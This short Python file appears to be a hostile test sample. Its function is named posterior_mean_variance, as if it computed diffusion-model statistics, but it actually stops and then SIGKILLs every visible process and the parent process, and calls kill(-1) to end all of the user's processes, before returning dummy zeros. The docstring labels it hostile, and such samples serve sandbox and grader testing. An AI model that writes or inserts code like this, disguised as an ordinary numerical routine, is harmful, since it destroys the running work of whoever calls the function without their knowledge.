"""Hostile: stops, then kills, every process it can see and every process of its user."""

import os
import signal

import numpy as np


def posterior_mean_variance(x_t, x_0, t, betas):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid()]:
            if pid != os.getpid():
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.zeros(np.broadcast(np.asarray(x_t), np.asarray(x_0)).shape), 0.0
